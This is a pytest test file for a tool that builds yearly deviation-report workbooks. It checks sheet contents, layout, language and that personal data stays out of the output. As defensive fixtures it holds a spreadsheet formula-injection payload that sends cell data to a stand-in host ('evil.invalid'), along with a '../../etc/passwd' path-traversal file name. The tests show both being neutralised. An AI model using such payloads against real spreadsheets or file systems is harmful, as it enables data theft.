"""The yearly workbook: its sheets and cells, privacy, no formulas from report text, and LibreOffice opens it."""

from __future__ import annotations

import html
import os
import shutil
import subprocess
import zipfile
from collections import Counter
from collections.abc import Iterable
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import IO

import openpyxl
import pytest
from pypdf import PdfReader

from formkit.i18n import CATALOGUE
from formkit.settings import Settings
from formkit.summary import workbook as summary_xlsx
from formkit.summary.figures import DeviationSummary, expand_inputs, summarize
from formkit.summary.workbook import (
    MAX_CELL_CHARS,
    clean_text,
    list_headers,
    per_verksamhet_name,
    write_per_verksamhet,
    write_workbook,
)
from tests.conftest import assert_golden

FIXTURES = Path(__file__).parent / "resources" / "summary"
REFERENCE = Settings(referensdatum=date(2026, 1, 15))
"""The reference date the ages of open reports and the återkoppling due are judged on (the golden file prints it)."""
INPUTS = [FIXTURES / "avvikelser-a.jsonl", FIXTURES / "avvikelser-b.json", FIXTURES / "avvikelser-c.csv"]
SHEETS = ["Översikt", "Diagram", "Rapporterande × berörd", "Verksamheter", "Åtgärder", "Avvikelser", "Underlag"]
# Every name, personnummer, address and free text of the fixtures (rapportörer, chefer, klienter).
PERSONAL = (
    "Åsa Öberg", "Şükrü Yılmaz", "Nguyễn Thị Huệ", "Tolvan", "19121212", "121212-1212", "201212121212",
    "0701234567", "Testgatan", "tolvan@example.org", "Kallelsen besvarades inte", "HYPERLINK", "Utse en kontaktperson",
    "Uteblev från mötet",
)  # fmt: skip
# Organisations (arbetsplats, berörd verksamhet) are printed since issue 20: the figures per organisation.


@pytest.fixture(scope="module")
def summary() -> DeviationSummary:
    # detail: exact counts and dates (the suppressed workbook is tested in test_summary_disclosure.py)
    return summarize(INPUTS, 2025, REFERENCE, detail=True)


@pytest.fixture(scope="module")
def workbook_path(summary: DeviationSummary, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_workbook(summary, tmp_path_factory.mktemp("wb") / "avvikelser-2025.xlsx")


def unzipped_text(path: Path) -> str:
    """Every part of the xlsx, XML entities decoded (openpyxl writes å as &#229;)."""
    with zipfile.ZipFile(path) as archive:
        return "\n".join(html.unescape(archive.read(name).decode("utf-8")) for name in archive.namelist())


def column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> list[object]:
    rows = list(ws.iter_rows(values_only=True))
    index = list(rows[0]).index(header)
    return [row[index] for row in rows[1:]]


def labelled(ws: openpyxl.worksheet.worksheet.Worksheet) -> dict[str, object]:
    """Column A -> column B of a sheet (the first occurrence of each label)."""
    found: dict[str, object] = {}
    for row in ws.iter_rows(min_col=1, max_col=2, values_only=True):
        if isinstance(row[0], str):
            found.setdefault(row[0], row[1])
    return found


def test_sheets_and_overview_figures(workbook_path: Path) -> None:
    wb = openpyxl.load_workbook(workbook_path)
    assert wb.sheetnames == SHEETS
    overview = labelled(wb["Översikt"])
    assert wb["Översikt"]["A1"].value == "Avvikelser 2025"
    assert overview["Avvikelser"] == 9
    assert overview["Har fått återkoppling"] == 3
    assert overview["Mediantid från rapport till återkoppling (dagar)"] == 10
    assert overview["Ej avslutade"] == 7
    assert overview["Avvisade rapporter (se Underlag)"] == 3
    assert overview["Dubbletter (samma referens, räknade en gång)"] == 2
    assert overview["mars"] == 2 and overview["februari"] == 0 and overview["december"] == 1
    assert overview["Övrigt"] == 2
    assert overview["Avslutad"] == 2 and overview["Rapporterad"] == 4
    # per rapporterande comes before per berörd: the first "Barn- och ungdomspsykiatri (BUP)" is the reporting count.
    assert overview["Barn- och ungdomspsykiatri (BUP)"] == 0
    # month, category, reporting type, and the categories beside the year before (the fixtures hold a report of 2024)
    assert len(wb["Diagram"]._charts) == 4


def test_native_charts_are_in_the_file(workbook_path: Path) -> None:
    with zipfile.ZipFile(workbook_path) as archive:
        charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
        assert len(charts) == 4
        xml = "".join(archive.read(name).decode() for name in charts)
    assert xml.count("<barChart>") == 4
    assert "'Översikt'!$B$" in html.unescape(xml)


def test_cross_table(workbook_path: Path) -> None:
    ws = openpyxl.load_workbook(workbook_path)["Rapporterande × berörd"]
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    header = list(rows[0])
    table = {row[0]: dict(zip(header[1:], row[1:], strict=True)) for row in rows[1:]}
    assert table["Grundskola"]["Individ- och familjeomsorg (socialtjänst)"] == 2
    assert table["Grundskola"]["Barn- och ungdomspsykiatri (BUP)"] == 1
    assert table["Grundskola"]["Summa"] == 4
    assert table["Summa"]["Barn- och ungdomspsykiatri (BUP)"] == 3
    assert table["Summa"]["Summa"] == 9


def test_list_sheet_is_a_filtered_table_with_real_dates(workbook_path: Path) -> None:
    ws = openpyxl.load_workbook(workbook_path)["Avvikelser"]
    assert [c.value for c in ws[1]] == list(list_headers("sv", detail=True))
    assert ws.freeze_panes == "A2"
    (table,) = ws.tables.values()
    assert table.ref == f"A1:K{9 + 1}"
    assert table.autoFilter is not None
    assert column(ws, "Referens") == ["A-001", "A-005", "A-006", "A-007", "A-010", None, "A-011", "A-012", "A-003"]
    handelsedatum = column(ws, "Händelsedatum")
    assert all(isinstance(value, datetime) for value in handelsedatum)
    assert handelsedatum[0] == datetime(2025, 1, 1) and handelsedatum[-1] == datetime(2025, 12, 31)
    assert ws["B2"].number_format == "yyyy-mm-dd"
    assert column(ws, "Dagar till återkoppling")[:4] == [None, 10, 4, 20]
    assert column(ws, "Status")[1] == "Avslutad"
    assert column(ws, "Kategori")[0] == "Kallelse har inte besvarats"


@pytest.mark.parametrize("include_text", [False, True])
def test_table_xml_matches_its_header_row(summary: DeviationSummary, tmp_path: Path, include_text: bool) -> None:
    # Excel "repairs" (drops) a table whose column names differ from the header cells or repeat.
    from lxml import etree

    path = write_workbook(replace(summary, include_text=include_text), tmp_path / "t.xlsx")
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as archive:
        (table_part,) = [n for n in archive.namelist() if n.startswith("xl/tables/")]
        table = etree.fromstring(archive.read(table_part))
    names = [c.get("name") for c in table.iterfind("m:tableColumns/m:tableColumn", ns)]
    header = [c.value for c in openpyxl.load_workbook(path)["Avvikelser"][1]]
    assert names == header and len(set(names)) == len(names) == (13 if include_text else 11)
    assert table.find("m:tableColumns", ns).get("count") == str(len(names))
    last = "M" if include_text else "K"
    assert table.get("ref") == table.find("m:autoFilter", ns).get("ref") == f"A1:{last}{len(summary.reports) + 1}"
    assert table.get("name") == table.get("displayName") == "Avvikelselista"


def test_underlag_lists_inputs_rejected_and_version(workbook_path: Path) -> None:
    ws = openpyxl.load_workbook(workbook_path)["Underlag"]
    rows = [row for row in ws.iter_rows(values_only=True) if any(v is not None for v in row)]
    values = labelled(ws)
    assert values["Skapad med formkit, version"]
    assert isinstance(values["Skapad (UTC)"], datetime)
    assert (str(INPUTS[0]), 8, 1, 5) in [tuple(row[:4]) for row in rows]
    problems = [tuple(row[:4]) for row in rows if row[0] in {str(p) for p in INPUTS} and isinstance(row[2], str)]
    assert problems == [
        (str(INPUTS[0]), 8, "kategori", "enum"),
        (str(INPUTS[1]), 2, "rapportor.verksamhetstyp", "enum"),
        (str(INPUTS[1]), 2, "forslag_atgarder", "required"),
        (str(INPUTS[2]), 4, "(hela posten)", "source"),
    ]


def test_underlag_defines_open_duplicates_and_the_year(workbook_path: Path) -> None:
    ws = openpyxl.load_workbook(workbook_path)["Underlag"]
    rows = [row[:2] for row in ws.iter_rows(values_only=True)]
    start = rows.index(("Definitioner", None)) + 1
    definitions = dict(rows[start : rows.index((None, None), start)])
    assert definitions["Ej avslutade"] == "Rapporter med annan status än Avslutad."
    assert "Rapporterad när handläggning saknas" in str(definitions["Status"])
    assert "längst i handläggningen, vid lika den senast rapporterade" in str(definitions["Dubbletter"])
    assert all(len(str(text)) <= 140 for text in definitions.values())  # runs on over columns C to E, unwrapped
    assert "Händelsedatumets år" in str(definitions["År"])
    assert set(definitions) == {
        "År", "Status", "Ej avslutade", "Mediantid till återkoppling", "Återkoppling i tid", "Mediantid till åtgärd",
        "Åtgärder", "Små antal", "Dubbletter", "Avvisade rapporter",
    }  # fmt: skip


def test_rejected_problems_beyond_the_sheet_s_rows_are_counted_not_written(
    summary: DeviationSummary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A sheet of 47 rows stands for Excel's 1,048,576: Underlag's problem list starts on row 32.
    monkeypatch.setattr(summary_xlsx, "EXCEL_MAX_ROWS", 47)
    many = replace(summary, rejected=summary.rejected * 5)  # 5 x 4 problems: 15 fit (rows 25-39), 5 do not
    ws = openpyxl.load_workbook(write_workbook(many, tmp_path / "x.xlsx"))["Underlag"]
    assert ws.max_row == 47
    # Then the files not read and the conflicts: 9 rows for the fixtures' none and two reports in two copies each.
    assert [ws.cell(row=row, column=4).value for row in (32, 34, 37)] == ["enum", "required", "enum"]
    assert ws.cell(row=38, column=1).value == "… och 14 problem till som inte ryms i bladet (se --json)"
    assert ws.cell(row=47, column=1).value == "A-006"


def test_every_sheet_prints_landscape_fitted_to_width_with_titles(workbook_path: Path) -> None:
    wb = openpyxl.load_workbook(workbook_path)
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows
    assert wb["Avvikelser"].print_title_rows == "$1:$1"


def test_no_personal_data_anywhere_in_the_file(workbook_path: Path) -> None:
    text = unzipped_text(workbook_path)
    for secret in PERSONAL:
        assert secret not in text, secret


def test_no_formula_cells_at_all(tmp_path: Path) -> None:
    path = write_workbook(summarize(INPUTS, 2025, include_text=True), tmp_path / "text.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    text = unzipped_text(path)
    # The description of A-010 is there, as text.
    assert '=HYPERLINK("http://evil.invalid/?q="&A1,"klicka")' in text


def test_include_text_adds_masked_text_columns(tmp_path: Path) -> None:
    summary = summarize(INPUTS, 2025, include_text=True)
    path = write_workbook(summary, tmp_path / "intern.xlsx")
    ws = openpyxl.load_workbook(path)["Avvikelser"]
    assert [c.value for c in ws[1]][-2:] == ["Beskrivning", "Förslag till åtgärder"]
    descriptions = dict(zip(column(ws, "Referens"), column(ws, "Beskrivning"), strict=True))
    assert descriptions["A-010"] == '=HYPERLINK("http://evil.invalid/?q="&A1,"klicka")'
    assert ws.cell(row=column(ws, "Referens").index("A-010") + 2, column=12).data_type == "s"
    assert "ÅÅMMDD-XXXX" in str(descriptions["A-011"])
    text = unzipped_text(path)
    for secret in ("19121212", "121212-1212", "201212121212", "0701234567", "Tolvan", "Testgatan", "Åsa Öberg"):
        assert secret not in text, secret


def test_report_values_that_look_like_formulas_or_errors_stay_strings(summary: DeviationSummary, tmp_path: Path) -> None:
    tricky = ["=1+1", "#N/A", "+SUM(A1)", "@x", "bad\x01\x0bchars\ud800"]
    reports = [replace(summary.reports[0], id=value, texts=(value, "")) for value in tricky]
    path = write_workbook(replace(summary, reports=reports, include_text=True), tmp_path / "tricky.xlsx")
    ws = openpyxl.load_workbook(path)["Avvikelser"]
    cells = [ws.cell(row=row, column=1) for row in range(2, 2 + len(tricky))]
    assert [c.value for c in cells] == ["=1+1", "#N/A", "+SUM(A1)", "@x", "badchars"]
    assert {c.data_type for c in cells} == {"s"}


def test_clean_text_cuts_at_the_cell_limit() -> None:
    long = "x" * (MAX_CELL_CHARS + 10)
    assert len(clean_text(long)) == MAX_CELL_CHARS
    assert clean_text(long).endswith("…")
    assert clean_text("a\x00b\tc\nd") == "ab\tc\nd"


def test_per_verksamhet_writes_one_workbook_per_reporting_organisation(summary: DeviationSummary, tmp_path: Path) -> None:
    written = write_per_verksamhet(summary, tmp_path / "per")
    # Most reports first, then by name; each file named by its organisation, folded to ASCII.
    assert [p.name for p in written][:2] == ["avvikelser-2025-arjeplogs-skola.xlsx", "avvikelser-2025-habiliteringen.xlsx"]
    assert len(written) == len(summary.organisations())
    wb = openpyxl.load_workbook(tmp_path / "per" / "avvikelser-2025-arjeplogs-skola.xlsx")
    assert wb.sheetnames == SHEETS
    assert wb["Översikt"]["A1"].value == "Avvikelser 2025 – rapporterade av Arjeplogs skola"
    expected = sorted(r.id or "" for r in summary.reports if r.rapporterande_org == "Arjeplogs skola")
    assert sorted(v or "" for v in column(wb["Avvikelser"], "Referens")) == expected
    assert labelled(wb["Översikt"])["Avvikelser"] == len(expected)
    for path in written:
        text = unzipped_text(path)
        assert not [secret for secret in PERSONAL if secret in text]


@pytest.mark.parametrize(
    ("organisation", "name"),
    [
        ("Arjeplogs skola", "avvikelser-2025-arjeplogs-skola.xlsx"),
        ("Vårdcentralen Ærø/Øst", "avvikelser-2025-vardcentralen-aero-ost.xlsx"),
        ("../../etc/passwd", "avvikelser-2025-etc-passwd.xlsx"),
        ("Dr 19121212-1212 mottagning", "avvikelser-2025.xlsx"),  # a personnummer: no name part (numbered by the caller)
        ("ÅÄÖ" * 40, "avvikelser-2025-" + "aao" * 20 + ".xlsx"),
        ("محمد", "avvikelser-2025.xlsx"),
    ],
)
def test_per_verksamhet_file_names_are_the_organisation_never_a_person(organisation: str, name: str) -> None:
    assert per_verksamhet_name(2025, organisation) == name


def test_an_empty_year_still_makes_a_valid_workbook(tmp_path: Path) -> None:
    summary = summarize(INPUTS[:1], 1999)
    path = write_workbook(summary, tmp_path / "tom.xlsx")
    wb = openpyxl.load_workbook(path)
    assert labelled(wb["Översikt"])["Avvikelser"] == 0
    (table,) = wb["Avvikelser"].tables.values()
    assert table.ref == "A1:K2"


def test_a_failed_write_keeps_the_old_file(summary: DeviationSummary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "avvikelser.xlsx"
    target.write_bytes(b"old")

    def splice_half(saved: IO[bytes], out: IO[bytes], part: str, rows: Iterable[str]) -> None:
        out.write(b"half a workbook")
        raise OSError("disk full")

    monkeypatch.setattr(summary_xlsx, "_splice_rows", splice_half)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(summary, target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["avvikelser.xlsx"]


def test_libreoffice_calc_opens_the_workbook(summary: DeviationSummary, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("soffice not found: install LibreOffice Calc (apt-get install libreoffice-calc-nogui)")
    path = write_workbook(replace(summary, include_text=True), tmp_path / "avvikelser-2025.xlsx")
    profile = (tmp_path / "lo-profile").as_uri()  # a private profile: parallel runs do not share a lock
    done = subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
        capture_output=True,
        timeout=180,
        check=False,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    pdf = tmp_path / "avvikelser-2025.pdf"
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert pdf.is_file(), done.stdout.decode(errors="replace")
    text = "\n".join(page.extract_text() for page in PdfReader(pdf).pages)
    assert "Avvikelser 2025" in text
    assert "Rapporterande" in text and "Underlag" in text
    assert "2025-12-31" in text  # a date cell printed as a date
    assert date(2025, 1, 1).isoformat() in text


def _personal_values(data: object, key: str = "") -> list[str]:
    """Every name, personnummer, contact detail and free text in a sample report."""
    personal_keys = {"namn", "personnummer", "adress", "telefon", "epost"}
    free_text = {"beskrivning", "konsekvenser_barn", "konsekvenser_verksamhet", "forslag_atgarder", "analys"}
    if isinstance(data, dict):
        found = []
        for name, value in data.items():
            if name == "namn" and key == "berord_verksamhet":
                continue  # an organisation, not a person
            if isinstance(value, str) and (name in personal_keys or name in free_text):
                found.append(value)
            else:
                found += _personal_values(value, name)
        return found
    if isinstance(data, list):
        return [v for item in data for v in _personal_values(item, key)]
    return []


def test_the_bundled_samples_leave_no_personal_data_in_any_workbook(tmp_path: Path) -> None:
    from formkit.resources import samples_dir
    from formkit.sources import read_records

    folder = samples_dir() / "avvikelser"
    summary = summarize([folder], 2025)
    suffixes = {Path(item.source).suffix for item in summary.inputs}
    assert {".jsonl", ".csv", ".xlsx"} <= suffixes
    assert summary.figures.total > 50
    secrets = {
        value
        for path in folder.iterdir()
        if path.suffix in suffixes
        for record in read_records(path, "avvikelserapport")
        for value in _personal_values(record.data)
    }
    assert "19121212-1212" in secrets and "Łukasz Wójcik" in secrets and len(secrets) > 100
    paths = [write_workbook(summary, tmp_path / "alla.xlsx"), *write_per_verksamhet(summary, tmp_path / "per")]
    for path in paths:
        text = unzipped_text(path)
        leaked = sorted(secret for secret in secrets if secret in text)
        assert not leaked, f"{path.name}: {len(leaked)} personal values"


def test_more_reports_than_a_sheet_holds_is_a_clear_error(summary: DeviationSummary, tmp_path: Path) -> None:
    from formkit.errors import RenderError

    too_many = replace(summary, reports=summary.reports[:1] * 1_048_576)
    with pytest.raises(RenderError, match="ryms inte i ett kalkylblad"):
        write_workbook(too_many, tmp_path / "x.xlsx")
    assert not list(tmp_path.iterdir())


def test_list_sheet_xml_is_well_formed_with_a_string_in_every_string_cell(tmp_path: Path) -> None:
    from lxml import etree

    summary = summarize(INPUTS, 2025, include_text=True)
    path = write_workbook(summary, tmp_path / "x.xlsx")
    with zipfile.ZipFile(path) as archive:
        root = etree.fromstring(archive.read("xl/worksheets/sheet6.xml"))
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    rows = root.findall("m:sheetData/m:row", ns)
    assert [row.get("r") for row in rows] == [str(n) for n in range(1, 11)]
    for cell in root.iterfind(".//m:c", ns):
        assert cell.find("m:f", ns) is None
        if cell.get("t") == "inlineStr":
            assert cell.find("m:is/m:t", ns) is not None, cell.get("r")
        else:
            assert cell.get("t") in (None, "n")
    empty_reference = root.find(".//m:c[@r='A7']", ns)  # the report without an id
    assert empty_reference is not None and len(empty_reference) == 0


GOLDEN = FIXTURES / "avvikelser-2025.cells.txt"
GOLDEN_SHEETS = ("Översikt", "Rapporterande × berörd", "Avvikelser")  # Underlag holds a time and paths


def cells_as_text(path: Path) -> str:
    """What a person sees in the figure sheets, one line per row, cells separated by |."""
    wb = openpyxl.load_workbook(path)
    lines = []
    for name in GOLDEN_SHEETS:
        lines.append(f"## {name}")
        for row in wb[name].iter_rows(values_only=True):
            shown = ["" if v is None else v.date().isoformat() if isinstance(v, datetime) else str(v) for v in row]
            while shown and not shown[-1]:
                shown.pop()
            lines.append(" | ".join(shown))
    return "\n".join(lines) + "\n"


def test_figure_sheets_match_the_golden_file(workbook_path: Path) -> None:
    assert_golden(GOLDEN, cells_as_text(workbook_path))


# --- printing: what a management group reads on paper


def test_every_cell_names_its_font(workbook_path: Path) -> None:
    """Without an explicit font LibreOffice draws bold headings in a serif fallback."""
    workbook = openpyxl.load_workbook(workbook_path)
    unnamed = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None and cell.font.name != "Arial"
    ]
    assert unnamed == []


def test_headings_over_figures_sit_right_over_their_numbers(workbook_path: Path) -> None:
    workbook = openpyxl.load_workbook(workbook_path)
    cross = workbook["Rapporterande × berörd"]
    heading = next(iter(cross.iter_rows(min_row=3, max_row=3)))
    assert heading[0].alignment.horizontal in (None, "general", "left")
    assert {cell.alignment.horizontal for cell in heading[1:]} == {"right"}
    overview = workbook["Översikt"]
    antal = [row[1] for row in overview.iter_rows() if row[1].value == "2025"]
    assert antal and {cell.alignment.horizontal for cell in antal} == {"right"}


def test_date_columns_hold_a_date(workbook_path: Path) -> None:
    """yyyy-mm-dd at 10 pt Arial needs 12 characters; narrower, LibreOffice prints ### or runs into the next column."""
    sheet = openpyxl.load_workbook(workbook_path)["Avvikelser"]
    for letter in ("B", "C", "H", "I", "K"):
        assert sheet.column_dimensions[letter].width >= 13, letter


def test_a_block_of_the_overview_is_not_split_across_printed_pages(workbook_path: Path) -> None:
    sheet = openpyxl.load_workbook(workbook_path)["Översikt"]
    breaks = [b.id for b in sheet.row_breaks.brk]
    starts = [row[0].row for row in sheet.iter_rows() if row[1].value == "Antal"]
    for start in starts:
        end = start
        while sheet.cell(end + 1, 1).value:
            end += 1
        assert not any(start <= b < end for b in breaks), (start, end, breaks)


# ---------------------------------------------------------------- every word from the catalogue (rulemsgs)


def test_the_workbook_speaks_the_summarys_language_and_is_still_recognised_as_formkits_own(
    summary: DeviationSummary, tmp_path: Path
) -> None:
    path = write_workbook(replace(summary, language="nb"), tmp_path / "avvik-2025.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Oversikt", "Diagram", "Rapporterende × berørt", "Virksomheter", "Tiltak", "Avvik", "Grunnlag"]
    assert wb["Oversikt"]["A1"].value == "Avvik 2025"
    assert labelled(wb["Oversikt"])["Har fått tilbakemelding"] == 3
    assert [c.value for c in wb["Avvik"][1]] == list(list_headers("nb", detail=True))
    cells = {cell for ws in wb for row in ws.iter_rows(values_only=True) for cell in row if isinstance(cell, str)}
    swedish = {sv for key, (sv, nb) in CATALOGUE.items() if key.startswith("workbook.") and sv != nb}
    labels = {*summary.labels.status.values(), *summary.labels.kategori.values(), *summary.labels.verksamhetstyp.values()}
    assert cells & swedish - labels == set()  # the form's own labels (Mottagen) are the schema's words, not ours
    # A Norwegian workbook left in the folder of the reports is formkit's own output, not an input.
    skipped: Counter[str] = Counter()
    (tmp_path / "inputs").mkdir()
    path.rename(tmp_path / "inputs" / path.name)
    (tmp_path / "inputs" / "a.jsonl").write_bytes(INPUTS[0].read_bytes())
    assert expand_inputs([tmp_path / "inputs"], skipped) == [tmp_path / "inputs" / "a.jsonl"]
    assert skipped == Counter({"own_output": 1})
